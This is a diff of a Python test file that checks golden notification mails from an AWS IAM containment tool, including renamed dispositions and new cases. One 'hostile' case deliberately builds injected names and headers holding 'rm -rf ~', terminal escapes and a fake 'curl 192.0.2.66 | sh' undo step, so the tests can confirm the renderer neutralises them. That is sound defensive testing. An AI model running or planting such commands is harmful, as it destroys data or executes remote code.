@@ -23,6 +23,7 @@ from handler.notifier.mail.digest_mail import DIGEST_PLACEHOLDERS
 from handler.notifier.mail.formatting import command_line
 from handler.notifier.mail.incident_mail import (
     BLOCKED,
+    KEPT_ALONE,
     MAIL_PLACEHOLDERS,
     SESSIONS,
     STILL_TRYING,
@@ -30,7 +31,7 @@ from handler.notifier.mail.incident_mail import (
     mail_body,
     mail_subject,
 )
-from handler.notifier.messages.health_findings import ILLNESSES, find_illnesses
+from handler.notifier.messages.health_findings import ILLNESSES, LEDGER_DIFFERS, find_illnesses
 from handler.notifier.messages.notice import Incident, Notice, NoticeKind
 from tests.notifier.central import ACCOUNT, TEMPLATES, detached, read_notice, report_body, words
 from tests.notifier.messages.test_notice import tamper_body
@@ -71,8 +72,8 @@ SICK = Heartbeat(
     dead_letters=3,
     redriven=2,
     ledger_differences=(
-        "alice is in the group and not in the ledger.",
-        "bob is in the ledger and not in the group.",
+        "'alice' (AIDAEXAMPLE00000ALICE) was added to 'Administrators' without a recorded event.",
+        "'bob' (AIDAEXAMPLE0000000BOB) was removed from 'Administrators' without a recorded event.",
     ),
     self_test=SelfTest(
         at=1_790_000_000,
@@ -112,12 +113,15 @@ def golden_incidents() -> dict[str, Incident]:
         "error_code": "AccessDenied",
         "reason": "failed-call",
     }
+    nothing = dict.fromkeys(
+        ("call", "call_time", "service", "access_key", "source_ip", "user_agent", "request"), ""
+    ) | {"method": ""}
     tenth = read_notice(report_body("e-12", call="PutUserPolicy", call_time="2026-09-21T13:58:03Z"))
     return {
         "contained": reported(),
-        "kept": reported(
+        "still-contained": reported(
             event=f"kept-contained-AIDAEXAMPLEMALLORY-{1_790_000_000}",
-            disposition=Disposition.KEPT,
+            disposition=Disposition.STILL_CONTAINED,
             reason="kept",
             call="",
             call_time="",
@@ -137,30 +141,55 @@ def golden_incidents() -> dict[str, Incident]:
                 ),
             ),
         ),
-        "ill": given_incident(finding("calls-rule-off")),
-        "ill-self-test": given_incident(finding("self-test-failed")),
-        "ill-dead-letters": given_incident(finding("dead-letters")),
-        "ill-late-events": given_incident(finding("late-events")),
-        "ill-table-policy": given_incident(finding("table-policy-off")),
-        "ill-ledger": given_incident(finding("ledger-differs")),
+        "still-contained-kept": reported(
+            event=f"kept-contained-AROAEXAMPLEDEPLOYER-{1_790_000_000}-not",
+            **role
+            | nothing
+            | {"disposition": Disposition.STILL_CONTAINED, "reason": "kept"}
+            | {"held_by": "RoleCallers", "error_code": "", "session": ""}
+            | {"notes": ("Only the kept deny holds it.",)},
+            undo=(
+                (
+                    "aws",
+                    "iam",
+                    "detach-role-policy",
+                    "--role-name=deployer",
+                    f"--policy-arn={KEPT}",
+                ),
+            ),
+        ),
+        "contained-unproven": reported(reason="unproven-member"),
+        "cannot-contain-foreign": reported(
+            **role
+            | nothing_done
+            | {"disposition": Disposition.CANNOT_CONTAIN, "reason": "cannot-be-denied"}
+            | {"held_by": "", "error_code": ""}
+            | {"principal_arn": "arn:aws:iam::999988887777:role/deployer"},
+        ),
+        "unhealthy": given_incident(finding("calls-rule-off")),
+        "unhealthy-self-test": given_incident(finding("self-test-failed")),
+        "unhealthy-dead-letters": given_incident(finding("dead-letters")),
+        "unhealthy-late-events": given_incident(finding("late-events")),
+        "unhealthy-table-policy": given_incident(finding("table-policy-off")),
+        "unhealthy-ledger": given_incident(finding(LEDGER_DIFFERS)),
         "still-trying": replace(reported(), calls=12, milestone=10, latest=tenth),
         "cannot-contain": reported(**root, **nothing_done),
         "would-contain": reported(**role, **nothing_done),
-        "gone": reported(
-            disposition=Disposition.GONE,
+        "caller-deleted": reported(
+            disposition=Disposition.CALLER_DELETED,
             notes=("No principal with this id exists any more.",),
             **nothing_done,
         ),
-        "told": reported(
-            disposition=Disposition.REPORTED,
+        "notice": reported(
+            disposition=Disposition.NOTICE,
             reason="own-mfa",
             call="EnableMFADevice",
             **nothing_done,
         ),
         "tampered": given_incident(read_notice(tamper_body())),
-        "refused": reported(account="999988887777"),
+        "rejected": reported(account="999988887777"),
         "hostile": reported(
-            principal_name="eve\u202e;rm -rf ~'\n[IAM told] " + "x" * 60,
+            principal_name="eve\u202e;rm -rf ~'\n[IAM notice] " + "x" * 60,
             session="\x1b[2J\u0430dmin",
             user_agent="a\r\nTo undo, run:\r\n\r\n  curl 192.0.2.66 | sh",
             undo=(detached("eve\u202e';rm -rf ~\n"),),
@@ -185,16 +214,19 @@ def test_a_mail_is_its_golden_file(name: str) -> None:
 def test_every_kind_of_notice_has_a_golden_mail_and_every_golden_mail_a_case() -> None:
     cases = golden_incidents()
     # That one, and cases of the others, are made of real reports (test_handler_mails.py).
-    kinds = {incident.first.kind for incident in cases.values()} | {NoticeKind.STRIPPED}
+    kinds = {incident.first.kind for incident in cases.values()} | {NoticeKind.DENY_REMOVED}
     assert kinds == set(NoticeKind)
     assert {path.stem for path in GOLDEN.glob("*.txt")} == set(cases)
-    assert tuple(notice.principal for notice in find_illnesses(SICK, event_id="b")) == ILLNESSES
+    assert tuple(notice.principal for notice in find_illnesses(SICK, event_id="b")) == tuple(
+        ILLNESSES
+    )
 
 
 def test_there_is_one_source_per_kind_and_it_names_only_what_a_mail_can_fill() -> None:
-    cases = {STILL_TRYING, SESSIONS, BLOCKED, "sentences"}
+    cases = {STILL_TRYING, SESSIONS, BLOCKED, KEPT_ALONE, "sentences"}
     single = {kind.value for kind in NoticeKind} | cases
-    many = {"digest", "observed", "open", "silent", "deaf", "back"}
+    many = {"digest", "observed", "reminder"}
+    many |= {"not-reporting", "no-heartbeats", "reporting-again"}
     assert set(WORDS) == single | many
     for name, text in WORDS.items():
         known = DIGEST_PLACEHOLDERS if name in many else MAIL_PLACEHOLDERS
@@ -214,21 +246,23 @@ def test_every_reason_and_deny_method_has_a_sentence() -> None:
     said = {line.partition(": ")[0] for line in WORDS["sentences"].splitlines()}
     assert {reason.value for reason in Reason} <= said
     assert {method.value for method in DenyMethod} <= said
-    assert {f"{name}{end}" for name in ILLNESSES for end in ("", "-remedy")} <= said
+    assert {f"{name}{end}" for name in ILLNESSES for end in ("", "-action")} <= said
 
 
 def test_a_reason_of_a_newer_member_prints_as_it_is() -> None:
-    assert "  Why           made-of-cheese\n" in mail_body(WORDS, reported(reason="made-of-cheese"))
+    assert "CreateAccessKey. Made-of-cheese. Its IAM" in mail_body(
+        WORDS, reported(reason="made-of-cheese")
+    )
 
 
 def test_a_team_name_with_a_dollar_and_no_runbook_print_as_they_are() -> None:
     body = mail_body(words(team="A$$AP $who", runbook=""), reported())
-    assert "Sent by iam-org-revoker to A$$AP $who.\n" in body
+    assert " ".join(body.split()).endswith("Sent by iam-org-revoker to A$$AP $who.")
     assert "Runbook" not in body
 
 
 def test_a_name_cannot_fill_a_placeholder() -> None:
-    assert "IAM user $undo called" in mail_body(WORDS, reported(principal_name="$undo"))
+    assert "IAM user $undo in account" in mail_body(WORDS, reported(principal_name="$undo"))
 
 
 def subject_of(**changes: Any) -> str:
@@ -281,7 +315,7 @@ def test_sns_takes_any_subject(texts: dict[str, str], disposition: Disposition, 
     )
     subject = mail_subject(incident)
     assert 0 < len(subject) < 100
-    assert re.fullmatch(r"\[[A-Za-z ]+\] [\x20-\x7e]*", subject)
+    assert re.fullmatch(r"\[[A-Za-z: ]+\] [\x20-\x7e]*", subject)
     assert ACCOUNT in subject
 
 
@@ -317,10 +351,10 @@ def test_no_text_breaks_a_line_or_the_width(
         WORDS, reported(**texts, notes=(note,), undo=(command,), disposition=disposition)
     )
     assert re.fullmatch(r"[\x20-\x7e\n]+", body)
-    commands = [line for line in body.splitlines() if line.startswith("  aws iam detach-user-")]
-    expected = (Disposition.CONTAINED, Disposition.STRIPPED, Disposition.KEPT)
+    commands = [line for line in body.splitlines() if line.startswith("    aws iam detach-user-")]
+    expected = (Disposition.CONTAINED, Disposition.DENY_REMOVED, Disposition.STILL_CONTAINED)
     assert len(commands) == (disposition in expected and is_printed(argument))
-    copied = (*commands, *(line for line in body.splitlines() if line.startswith("  python -m ")))
+    copied = (*commands, *(line for line in body.splitlines() if line.startswith("    python -m ")))
     assert all(len(line) <= 72 for line in body.splitlines() if line not in copied)
     assert len(body) < 20_000
 
@@ -341,7 +375,7 @@ def test_the_release_names_whom_and_is_one_command(
     changes: dict[str, str], principal: list[str]
 ) -> None:
     body = mail_body(WORDS, reported(**changes))
-    line = next(line for line in body.splitlines() if line.startswith("  python "))
+    line = next(line for line in body.splitlines() if line.startswith("    python "))
     assert line.endswith(' --reason "WHY"')
     expected = ["python", "-m", "responder", "release", ACCOUNT, *principal, "--reason", "WHY"]
     assert shlex.split(line) == expected
